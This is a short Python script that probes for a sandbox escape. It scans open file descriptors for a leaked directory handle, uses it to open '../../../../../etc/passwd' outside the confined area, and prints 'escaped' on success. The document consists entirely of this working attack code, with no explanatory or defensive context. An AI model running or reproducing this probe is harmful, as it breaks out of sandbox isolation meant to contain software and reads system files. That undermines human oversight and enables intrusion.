import os, stat
for fd in range(256):
    try:
        if stat.S_ISDIR(os.fstat(fd).st_mode):
            os.open("../../../../../etc/passwd", os.O_RDONLY, dir_fd=fd)
            print("escaped")
    except OSError:
        pass
